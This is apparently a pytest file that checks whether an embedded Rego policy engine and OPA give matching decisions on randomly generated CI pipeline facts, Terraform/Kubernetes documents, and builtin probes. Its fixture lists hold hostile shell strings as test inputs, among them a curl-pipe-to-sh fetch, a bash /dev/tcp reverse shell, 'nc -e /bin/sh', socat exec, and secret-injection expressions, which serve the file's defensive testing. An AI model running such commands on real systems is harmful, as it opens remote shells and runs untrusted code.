"""Both engines say the same, rule by rule and builtin by builtin: what differs would be a decision by chance."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from policyd.adapters.engines.embedded import EmbeddedEngine
from policyd.adapters.engines.opa import OpaEngine
from policyd.adapters.library import library_builtins
from policyd.models.decision import Gate
from policyd.policy.policy_set import PolicySet, read_policy_set

TEXTS = [
    "", "curl -k https://x.example | sh", "bash -i >& /dev/tcp/203.0.113.9/1 0>&1", "echo \"$TOKEN\" >> $GITHUB_ENV",
    "export LD_PRELOAD=./x.so PATH=.:/bin", "git -c http.sslVerify=false clone http://example.com/x", "docker run --privileged"
    " -v /var/run/docker.sock:/s x", "é\u2028\u202eλ ☃", "::set-output name=x::y", "${{ secrets.TOKEN }} ${{ x }}",
    "fromJSON(secrets.X).y", "pip install requests==2", "a\nb\tc", "$(", "[[[", "GOSUMDB=off go build", "%s%d%v%", "\\",
]  # fmt: skip
WORDS = [
    "curl", "wget", "sh", "bash", "-c", "-k", "-fsSLk", "$CMD", "${X}", "eval", "pip", "install", "-r", "requests", "npm",
    "http://example.com/x", "https://x", "docker", "run", "--privileged", "nc", "-e", "/bin/sh", "python3", "-m", "pip", "-",
    "pytest", "true", "true", ":", "set", "-x", "env", "é", "", "-o", "/dev/null", "git", "go", "x@latest", "socat",
    "EXEC:/bin/sh",
]  # fmt: skip
COMMANDS = [
    ["echo", "$TOKEN"],
    ["printenv"],
    ["eval", "$CMD"],
    ["bash", "-c", "$X"],
    ["pytest"],
    ["true"],
    ["set", "-x"],
]
NAMES = [
    "TOKEN", "DEPLOY_PASSWORD", "LD_PRELOAD", "PATH", "NODE_OPTIONS", "GIT_SSL_NO_VERIFY", "NODE_TLS_REJECT_UNAUTHORIZED",
    "ACTIONS_STEP_DEBUG", "ACTIONS_ALLOW_UNSECURE_COMMANDS", "PIP_INDEX_URL", "GOSUMDB", "password", "é", "",
]  # fmt: skip
VALUES = [
    "true", "1", "0", "off", "", ".:/bin", "--require ./x", "http://u@example.com/simple", "9f8e7d6c5b4a39281706",
    "${{ secrets.TOKEN }}", "ghp_" + "0123456789abcdefghijABCDEFGHIJ012345", "é", "./x.so",
]  # fmt: skip


def facts(chance: random.Random) -> dict[str, Any]:
    """Facts as the front ends could hand them over, in every combination of flags and odd words."""

    def flag() -> bool:
        return chance.random() < 0.5

    def some(make: Any, name: str, most: int = 4) -> list[dict[str, Any]]:
        return [
            {**make(), "at": [name, index], "stage": chance.choice(["", "a", "a", "a", "b"])}
            for index in range(chance.randrange(most))
        ]

    def command() -> dict[str, Any]:
        argv = chance.choice(COMMANDS) if flag() else chance.choices(WORDS, k=chance.randrange(1, 6))
        return {
            "text": chance.choice([*TEXTS, " ".join(argv)]),
            "program": argv[0],
            "argv": argv,
            "pipes_to": chance.choice(["", "", "", "", "sh", "python3", "tar", "eval"]),
            "shell": "bash",
            "untrusted": flag(),
            "writes_to": chance.choice([[], [], [], ["$GITHUB_ENV"], ["${GITHUB_PATH}"], ["f"]]),
        }

    def stage(name: str) -> dict[str, Any]:
        kinds = ["", "source", "build", "test", "scan", "package", "deploy", "monitor"]
        return {
            "at": ["stages", 0],
            "name": name,
            "group": "",
            "kind": chance.choice(kinds),
            "needs": [],
            "needs_kinds": sorted(chance.sample(kinds[1:], chance.randrange(4))),
            "runner": [],
            "self_hosted": flag(),
            "environment": "",
            "target": "",
            "timeout_seconds": chance.choice([None, 60, 7200]),
            "explicit_timeout": flag(),
            "untrusted": flag(),
            "privileged": flag(),
            "outputs": chance.choice([[], ["x"]]),
            "results": chance.choice([[], ["junit"], ["sarif"]]),
            "has_source": flag(),
        }

    return {
        "stages": [stage(name) for name in ("a", "b")[: chance.randrange(3)]],
        "triggers": some(
            lambda: {
                "event": chance.choice(["push", "pull_request_target", "workflow_run"]),
                "trust": chance.choice(["trusted", "untrusted"]),
                "privileged": flag(),
            },
            "triggers",
        ),
        "references": some(
            lambda: {
                "text": chance.choice([*TEXTS, "http://example.com/ci.yml", "actions/checkout@v4"]),
                "kind": chance.choice(["action", "workflow", "image", "include", "tool"]),
                "owner": "",
                "name": "",
                "ref": "",
                "local": flag(),
                "pinned": flag(),
            },
            "references",
        ),
        "commands": some(command, "commands", 8),
        "expressions": some(
            lambda: {
                "text": chance.choice(TEXTS),
                "contexts": [],
                "untrusted": flag(),
                "sink": chance.choice(["script", "environment"]),
                "always_true": flag(),
            },
            "expressions",
        ),
        "checkouts": some(
            lambda: {"text": "c", "ref": "", "untrusted": flag(), "persists_credentials": flag()}, "checkouts"
        ),
        "permissions": some(
            lambda: {
                "scope": chance.choice(["contents", "actions", "é"]),
                "access": chance.choice(["read", "write", "none"]),
                "explicit": flag(),
                "level": chance.choice(["pipeline", "stage"]),
            },
            "permissions",
        ),
        "secrets": some(lambda: {"name": "X", "all": flag(), "inherited": flag(), "sink": "environment"}, "secrets"),
        "variables": some(
            lambda: {
                "name": chance.choice(NAMES),
                "value": chance.choice([*VALUES, *TEXTS, *["${{ secrets.TOKEN }}"] * 5]),
                "literal": flag(),
                "origin": chance.choice(["environment", "environment", "input", "credentials"]),
            },
            "variables",
            6,
        ),
        "containers": some(
            lambda: {
                "image": "i",
                "options": chance.choice([*TEXTS, "--privileged", "--cap-add=ALL", "-v /:/h"]),
                "privileged": flag(),
                "volumes": chance.choice([[], ["/var/run/docker.sock:/s"], ["/home/x:/x"], ["é"]]),
            },
            "containers",
        ),
        "conditions": some(
            lambda: {"text": chance.choice(TEXTS), "always_true": flag(), "spoofable_actor": flag()}, "conditions"
        ),
    }


def anything(chance: random.Random, depth: int = 0) -> Any:
    """A JSON value of any shape."""
    keys = ["kind", "metadata", "name", "spec", "containers", "items", "change", "after", "type", "image", "privileged"]
    leaves = [None, True, False, 0, 1.5, -1, "", "Pod", "List", "aws_s3_bucket", "delete", "0.0.0.0/0", "é", "ALL"]
    if depth > 3 or chance.random() < 0.4:
        return chance.choice(leaves)
    if chance.random() < 0.4:
        return [anything(chance, depth + 1) for _ in range(chance.randrange(3))]
    return {key: anything(chance, depth + 1) for key in chance.sample(keys, chance.randrange(5))}


def infrastructure(chance: random.Random) -> Any:
    """A Terraform plan or Kubernetes manifests, in which anything may stand in the place of any part."""

    def part(value: Any) -> Any:
        return anything(chance) if chance.random() < 0.08 else value

    def pick(*choices: Any) -> Any:
        return part(chance.choice(choices))

    def rule() -> dict[str, Any]:
        return {
            "type": pick("ingress", "egress"),
            "from_port": pick(22, 0, 443),
            "to_port": pick(22, 65535, 443),
            "protocol": pick("tcp", "-1"),
            "cidr_blocks": pick(["0.0.0.0/0"], ["10.0.0.0/8"], []),
            "ipv6_cidr_blocks": pick(None, ["::/0"]),
        }

    def change() -> dict[str, Any]:
        kind, after = chance.choice(
            [
                ("aws_s3_bucket", {"acl": pick("private", "public-read")}),
                ("aws_s3_bucket_public_access_block", {"block_public_acls": pick(True, False)}),
                ("google_storage_bucket_iam_binding", {"members": pick(["allUsers"], ["user:a@example.com"])}),
                ("google_storage_bucket_iam_member", {"member": pick("allUsers", "user:a@example.com")}),
                ("azurerm_storage_container", {"container_access_type": pick("blob", "private")}),
                ("aws_security_group", {"ingress": part([part(rule())])}),
                ("aws_security_group_rule", rule()),
                (
                    "aws_vpc_security_group_ingress_rule",
                    {"cidr_ipv4": pick("0.0.0.0/0"), "ip_protocol": pick("tcp", "-1")},
                ),
                (
                    "google_compute_firewall",
                    {
                        "source_ranges": pick(["0.0.0.0/0"]),
                        "allow": part([part({"ports": part([pick("22", "80-90")])})]),
                    },
                ),
                ("aws_db_instance", {"storage_encrypted": pick(True, False)}),
                ("aws_ebs_volume", {"encrypted": pick(True, False, None)}),
            ]
        )
        return {
            "address": part(f"{kind}.x"),
            "type": part(kind),
            "change": part({"actions": pick(["create"], ["delete"], ["delete", "create"]), "after": part(after)}),
        }

    def container() -> dict[str, Any]:
        return {
            "name": "a",
            "image": pick("web:1", f"web@sha256:{'0' * 64}"),
            "securityContext": part(
                {"privileged": pick(True, False), "capabilities": part({"add": pick(["ALL"], [])})}
            ),
            "resources": part({"limits": part({"memory": pick("1Gi", None)})}),
        }

    def workload() -> Any:
        spec = {
            "hostPID": pick(True, False),
            "containers": part([part(container())]),
            "initContainers": part([part(container())]),
            "volumes": part([part({"hostPath": part({"path": "/"})})]),
        }
        kind = chance.choice(["Pod", "Deployment", "CronJob"])
        inner: dict[str, Any] = {
            "Pod": {"spec": spec},
            "Deployment": {"spec": {"template": {"spec": spec}}},
            "CronJob": {"spec": {"jobTemplate": {"spec": {"template": {"spec": spec}}}}},
        }[kind]
        found = {"kind": part(kind), "metadata": part({"name": part("web")}), **inner}
        return {"kind": "List", "items": part([part(found)])} if chance.random() < 0.2 else found

    if chance.random() < 0.5:
        return part({"resource_changes": part([part(change()) for _ in range(3)])})
    return part([part(workload()) for _ in range(chance.randrange(3))]) if chance.random() < 0.7 else part(workload())


def evidence(chance: random.Random) -> dict[str, Any]:
    """Evidence, decisions and results as the stage and release gates see them; results of any shape."""

    def pick(*choices: Any) -> Any:
        return chance.choice(choices)

    def entry() -> dict[str, Any]:
        return {
            "stage": pick("build", "test"),
            "kind": pick("build", "test"),
            "state": pick("succeeded", "succeeded", "failed"),
            "definition_sha256": "d",
            "run_id": pick("r1", "r1", "r2"),
            "plan_sha256": pick("p1", "p1", "p2"),
            "predicate_types": pick([], ["https://slsa.dev/provenance/v1"]),
            "signers": [],
            "products": pick(
                [], [{"output": "wheel", "path": "x", "type": "f", "sha256": pick("d1", "d2"), "size": 1}]
            ),
            "results": pick(
                [],
                [
                    {
                        "name": "n",
                        "kind": pick("junit", "sarif", "sbom"),
                        "path": "x",
                        "sha256": "d",
                        "passed": pick(True, False, None),
                        "counts": pick({}, {"error": 0}, {"error": 3}),
                    }
                ],
            ),
            "sandbox": pick("bwrap", "none", ""),
        }

    return {
        "run_id": "r1",
        "governance": pick("self", "operator"),
        "target": "local",
        "requester": {"identity": "me", "verified": pick(True, False)},
        "plan": {
            "sha256": "p1",
            "sandbox": pick("bwrap", "none"),
            "source": {"sha256": "s", "files": 1, "commit": pick(None, "c"), "clean": pick(None, True, False)},
        },
        "stage": {
            "name": "release",
            "kind": pick("deploy", "deploy", "package", "scan"),
            "needs": pick([], ["build"], ["build", "test"]),
            "products": pick([], ["build.wheel"], ["test.log"]),
        },
        "artifact": {"name": "x", "sha256": "d1", "stage": "build", "output": "wheel", "type": "f"},
        "evidence": [entry() for _ in range(chance.randrange(4))],
        "decisions": [
            {
                "gate": pick("pipeline", "stage"),
                "verdict": pick("allow", "allow", "deny"),
                "stage": pick("", "build", "test"),
                "sha256": "d",
                "weakened": pick([], ["x"]),
            }
            for _ in range(chance.randrange(4))
        ],
        "results": [{"stage": "a", "name": "r", "kind": "json", "document": infrastructure(chance)} for _ in range(3)],
    }


def ordered(value: object) -> object:
    return sorted(value, key=json.dumps) if isinstance(value, list) else value


@pytest.mark.parametrize("gate", list(Gate))
def test_every_rule_answers_alike_whatever_it_is_given(
    gate: Gate, library: PolicySet, embedded: EmbeddedEngine, opa_engine: OpaEngine
) -> None:
    rules = [rule for rule in library.catalogue.values() if rule.gate is gate]
    entrypoints = [rule.entrypoint for rule in rules]
    fired: set[str] = set()
    chance = random.Random(f"policyd {gate}")

    for _ in range(150):
        document = facts(chance) if gate is Gate.PIPELINE else evidence(chance)
        content = json.dumps(document).encode()
        ours, theirs = embedded.query(entrypoints, content), opa_engine.query(entrypoints, content)
        for entrypoint in entrypoints:
            assert ours[entrypoint].error is None, (entrypoint, document)
            assert theirs[entrypoint].error is None, (entrypoint, document)
            assert ordered(ours[entrypoint].value) == ordered(theirs[entrypoint].value), (entrypoint, document)
            if ours[entrypoint].value:
                fired.add(entrypoint)

    # Inputs that no rule minds would compare nothing.
    silent = {entrypoint.split(".", 1)[1].removesuffix(".deny") for entrypoint in set(entrypoints) - fired}
    assert silent <= NEVER_BY_CHANCE, silent


#: What chance does not put together here; the rules' own tests compare them on both engines.
NEVER_BY_CHANCE = {"permissions.excessive"}
#: One expression or more for each builtin that the embedded engine may answer, with odd arguments.
PROBES = {
    "abs": ["abs(-1)", "abs(1.5)"],
    "array.concat": ["array.concat([1], [2])", "array.concat([], [])"],
    "array.reverse": ["array.reverse([1, 2])", "array.reverse([])"],
    "array.slice": ["array.slice([1, 2, 3], -1, 2)", "array.slice([1, 2, 3], 2, 9)", "array.slice([1], 3, 1)"],
    "base64.encode": ['base64.encode("a")', 'base64.encode("é")', 'base64.encode("")'],
    "ceil": ["ceil(1.2)", "ceil(-1.2)", "ceil(1)"],
    "concat": ['concat(",", ["a", "é"])', 'concat(",", {"b", "a"})', 'concat(",", [])', 'concat(",", input.numbers)'],
    "contains": ['contains("abc", "")', 'contains("é", "e")', 'contains("", "a")'],
    "count": ['count("é☃")', "count([])", 'count({"a": 1})', "count({1, 1})", "count(input.number)"],
    "endswith": ['endswith("abc", "c")', 'endswith("abc", "")'],
    "floor": ["floor(1.9)", "floor(-1.2)"],
    "format_int": ["format_int(255, 16)", "format_int(-5, 2)", "format_int(8, 8)", "format_int(9, 10)"],
    "indexof": ['indexof("éa", "a")', 'indexof("a", "z")', 'indexof("abcabc", "c")'],
    "intersection": ["intersection({{1, 2}, {2}})", "intersection({{1}, {2}})"],
    "is_array": ["is_array([])", "is_array({1})", "is_array(input.nothing)"],
    "is_boolean": ["is_boolean(false)", "is_boolean(0)"],
    "is_null": ["is_null(null)", "is_null(false)", "is_null(input.nothing)"],
    "is_number": ["is_number(1.5)", 'is_number("1")'],
    "is_object": ["is_object({})", "is_object([])"],
    "is_set": ["is_set({1})", "is_set([])"],
    "is_string": ['is_string("")', "is_string(1)", "is_string(input.nothing)"],
    "json.is_valid": ['json.is_valid("{")', 'json.is_valid("{}")', 'json.is_valid("1")'],
    "max": ["max([1, 3, 2])", "max([])", 'max(["a", 1])', "max({1, 2})"],
    "min": ["min([3, 1])", "min([])", "min({[1], 2})"],
    "numbers.range": ["numbers.range(1, 3)", "numbers.range(3, 1)", "numbers.range(0, 0)"],
    "object.filter": ['object.filter({"a": 1, "b": 2}, ["a"])', 'object.filter({"a": 1}, {"b"})'],
    "object.get": [
        'object.get({"a": null}, "a", 1)',
        'object.get({"a": {"b": 1}}, ["a", "c"], 2)',
        'object.get({"a": 1}, [], 2)',
        'object.get({"a": [1]}, ["a", 0], 2)',
        'object.get({"a": "x"}, ["a", "b"], 2)',
    ],
    "object.keys": ['object.keys({"a": 1})', "object.keys({})"],
    "object.remove": ['object.remove({"a": 1, "b": 2}, ["a"])', 'object.remove({"a": 1}, {"c"})'],
    "object.subset": ['object.subset({"a": 1, "b": 2}, {"a": 1})', "object.subset([1, 2, 3], [2, 3])", "object.subset({1}, {1, 2})"],
    "object.union": ['object.union({"a": {"b": 1}}, {"a": {"c": 1}})', 'object.union({"a": 1}, {"a": {"c": 1}})'],
    "product": ["product([2, 3.5])", "product([])"],
    "regex.find_all_string_submatch_n": [
        'regex.find_all_string_submatch_n("(a)(b)?", "ab a", -1)',
        'regex.find_all_string_submatch_n("(é|a)", "a", 1)'.replace("é|", ""),
        'regex.find_all_string_submatch_n("a", "b", -1)',
        'regex.find_all_string_submatch_n("", "ab", -1)',
    ],
    "regex.find_n": ['regex.find_n("[a-z]+", "ab cé", -1)', 'regex.find_n("a", "aaa", 2)', 'regex.find_n("a*", "baab", -1)'],
    "regex.match": [
        'regex.match("^a.c$", "aéc")',
        'regex.match("a$", "a\\n")',
        'regex.match(".", "\\n")',
        'regex.match("^[^a]+$", "\\n")',
        'regex.match("(?i)k", "\\u212a")',
        'regex.match("(?i)s", "\\u017f")',
        'regex.match("a{2,3}", "aa")',
        'regex.match("", "")',
    ],
    "replace": ['replace("aaa", "a", "b")', 'replace("abc", "", "-")', 'replace("é", "é", "")'],
    "round": ["round(2.5)", "round(-2.5)", "round(1.4)"],
    "split": ['split("a,b,", ",")', 'split("", ",")', 'split("éab", "")'],
    "sprintf": [
        'sprintf("%s|%d|%v", ["é", 5, [1, "a", null, true, {"k": 1.5}]])',
        'sprintf("%v %v", [1.5, {"b", "a"}])',
        'sprintf("%d%%", [12345678901234567890])',
        'sprintf("%v", [1.0])',
    ],
    "startswith": ['startswith("abc", "")', 'startswith("é", "e")'],
    "strings.any_prefix_match": ['strings.any_prefix_match("abc", ["x", "a"])', 'strings.any_prefix_match(["abc"], {"x"})'],
    "strings.any_suffix_match": ['strings.any_suffix_match("abc", ["x", "c"])', 'strings.any_suffix_match([], [])'],
    "substring": ['substring("éabc", 1, 2)', 'substring("abc", 1, -1)', 'substring("abc", 5, 2)', 'substring("abc", -1, 2)'],
    "sum": ["sum([1, 2.5])", "sum([])", "sum({1, 2})"],
    "trim": ['trim("  a ", " ")', 'trim("éaé", "é")', 'trim("abc", "")'],
    "trim_left": ['trim_left("aab", "a")', 'trim_left("", "a")'],
    "trim_prefix": ['trim_prefix("abc", "a")', 'trim_prefix("abc", "b")'],
    "trim_right": ['trim_right("baa", "a")', 'trim_right("é", "é")'],
    "trim_suffix": ['trim_suffix("abc", "bc")', 'trim_suffix("abc", "")'],
    "type_name": ["type_name({1})", "type_name({})", "type_name(1)", "type_name(null)", 'type_name("")', "type_name([])"],
    "union": ["union({{1}, {2}})", "union({set()})"],
}  # fmt: skip
#: What is no builtin call: operators and shapes that rules use.
SHAPES = [
    "1 == 1.0", "6 / 2", "7 / 2", "5 % 2", "{1, 2} - {2}", "{1} | {2}", "{1} & {1, 2}", '"a" < "b"', '"a" < 1', "[1] < [2]",
    "1 in {1.0}", "[x | some x in [3, 1]]", "{k: v | some k, v in input.object}", "input.list[5]", "input.text.nothing",
    "input.list[input.text]", "input.nothing == 1", "input.nothing != 1", "[v | v := input.object[_]]",
]  # fmt: skip


@pytest.fixture(scope="module")
def probes(opa: Path) -> Iterator[tuple[list[tuple[str, str]], EmbeddedEngine, OpaEngine]]:
    """Every probe as a rule of its own, in both engines."""
    expressions = [(name, expression) for name, listed in PROBES.items() for expression in listed]
    expressions += [("", expression) for expression in SHAPES]
    rules = "".join(
        f"p{number} := y if {{\n\ty := {expression}\n}}\n" for number, (_, expression) in enumerate(expressions)
    )
    header = (
        b"# METADATA\n# title: t\n# description: d\n# custom:\n#   id: a.probes\n#   severity: low\n"
        b"#   gate: pipeline\n"
        b"#   controls: [X]\n#   remediation: r\npackage policyd.a.probes\n"
    )
    policy_set = read_policy_set({"probes.rego": header + rules.encode()}, "probes")
    with EmbeddedEngine(policy_set) as ours, OpaEngine(policy_set, opa) as theirs:
        yield expressions, ours, theirs


def test_every_builtin_the_embedded_engine_answers_is_probed() -> None:
    assert set(PROBES) == library_builtins().alike


def test_every_probe_is_answered_alike(probes: tuple[list[tuple[str, str]], EmbeddedEngine, OpaEngine]) -> None:
    expressions, ours, theirs = probes
    document = json.dumps(
        {"object": {"b": 1, "a": 2}, "list": [1, 2], "text": "zz", "numbers": [1], "number": 5}
    ).encode()
    entrypoints = [f"policyd.a.probes.p{number}" for number in range(len(expressions))]

    one, other = ours.query(entrypoints, document), theirs.query(entrypoints, document)

    different = []
    for (_, expression), entrypoint in zip(expressions, entrypoints, strict=True):
        left, right = one[entrypoint], other[entrypoint]
        # The words of an error may differ; that there is one may not. `1` and `1.0` are two answers.
        if (left.error is None) != (right.error is None) or repr(left.value) != repr(right.value):
            different.append((expression, left, right))
    assert different == []
